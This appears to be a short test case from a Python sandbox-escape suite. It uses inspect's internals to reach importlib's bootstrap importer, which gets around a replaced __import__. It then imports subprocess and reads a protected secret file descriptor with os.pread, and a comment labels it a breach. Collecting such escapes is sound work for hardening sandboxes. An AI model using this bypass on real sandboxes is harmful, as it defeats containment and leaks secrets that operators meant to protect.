# The importer's own function, beneath the replaced __import__.
# breach: secret
import inspect
inspect.importlib._bootstrap._gcd_import("subprocess").os.pread(SECRET_FD, 100, 0)
